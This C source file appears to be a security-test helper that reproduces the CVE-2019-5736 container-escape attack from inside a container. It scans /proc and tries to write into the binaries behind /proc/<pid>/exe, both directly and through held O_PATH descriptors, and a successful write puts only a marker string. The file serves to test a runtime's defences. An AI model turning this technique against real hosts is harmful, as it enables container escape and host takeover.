/* exeattack SECONDS [SKIP_PATH...]: the CVE-2019-5736 attacker, run inside a
 * container (built static by tests/bats/security.bats).
 *
 * For SECONDS it scans /proc for every process and tries to reach the binary
 * behind /proc/<pid>/exe for writing: directly (O_WRONLY), and by holding an
 * O_PATH fd of it and reopening that through /proc/self/fd/N once the process
 * is gone (the kernel refuses writes to a running executable with ETXTBSY).
 * Binaries at SKIP_PATHs (the container's own busybox, this program) are left
 * alone. At the end it prints one line per event:
 *   seen DEV:INO NLINK     an exe it could open O_PATH (NLINK 0: a memfd)
 *   wrote DEV:INO HOW      a write into that binary succeeded
 *   denied N               opens of /proc/<pid>/exe refused (EPERM/EACCES)
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_SEEN 512

struct seen {
	dev_t dev;
	ino_t ino;
	nlink_t nlink;
	int fd;		/* O_PATH, held for the reopen trick */
	int wrote;
};

static struct seen seen[MAX_SEEN];
static int n_seen;
static struct stat skip[16];
static int n_skip;
static long denied;

static int skipped(const struct stat *sb)
{
	for (int i = 0; i < n_skip; i++)
		if (skip[i].st_dev == sb->st_dev && skip[i].st_ino == sb->st_ino)
			return 1;
	return 0;
}

static struct seen *find(const struct stat *sb)
{
	for (int i = 0; i < n_seen; i++)
		if (seen[i].dev == sb->st_dev && seen[i].ino == sb->st_ino)
			return &seen[i];
	return NULL;
}

/* A write that lands proves the attack: a marker at the start of the file. */
static void try_write(struct seen *s, int fd, const char *how)
{
	static const char marker[] = "KEEL-EXE-OVERWRITTEN";

	if (pwrite(fd, marker, sizeof(marker) - 1, 0) > 0 && !s->wrote) {
		s->wrote = 1;
		printf("wrote %lu:%lu %s\n", (unsigned long)s->dev, (unsigned long)s->ino, how);
		fflush(stdout);
	}
}

static void probe(const char *pid)
{
	char path[300];
	struct stat sb;
	struct seen *s;
	int fd, w;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		if (errno == EPERM || errno == EACCES)
			denied++;
		return;
	}
	if (fstat(fd, &sb) < 0 || skipped(&sb)) {
		close(fd);
		return;
	}
	s = find(&sb);
	if (!s && n_seen < MAX_SEEN) {
		s = &seen[n_seen++];
		s->dev = sb.st_dev;
		s->ino = sb.st_ino;
		s->nlink = sb.st_nlink;
		s->fd = fd;
		fd = -1;
	}
	if (fd >= 0)
		close(fd);
	if (!s)
		return;
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w >= 0) {
		try_write(s, w, "direct");
		close(w);
	}
}

static void reopen_held(void)
{
	char path[64];

	for (int i = 0; i < n_seen; i++) {
		int w;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", seen[i].fd);
		w = open(path, O_WRONLY | O_CLOEXEC);
		if (w >= 0) {
			try_write(&seen[i], w, "reopen");
			close(w);
		}
	}
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char self[32];
	double end;

	if (argc < 2) {
		fprintf(stderr, "usage: exeattack SECONDS [SKIP_PATH...]\n");
		return 2;
	}
	end = now() + atof(argv[1]);
	if (stat("/proc/self/exe", &skip[n_skip]) == 0)
		n_skip++;
	for (int i = 2; i < argc && n_skip < 16; i++)
		if (stat(argv[i], &skip[n_skip]) == 0)
			n_skip++;
	snprintf(self, sizeof(self), "%d", getpid());
	while (now() < end) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (!d)
			return 1;
		while ((e = readdir(d)))
			if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && strcmp(e->d_name, self) != 0)
				probe(e->d_name);
		closedir(d);
		reopen_held();
	}
	for (int i = 0; i < n_seen; i++)
		printf("seen %lu:%lu %lu\n", (unsigned long)seen[i].dev, (unsigned long)seen[i].ino,
		       (unsigned long)seen[i].nlink);
	printf("denied %ld\n", denied);
	return 0;
}
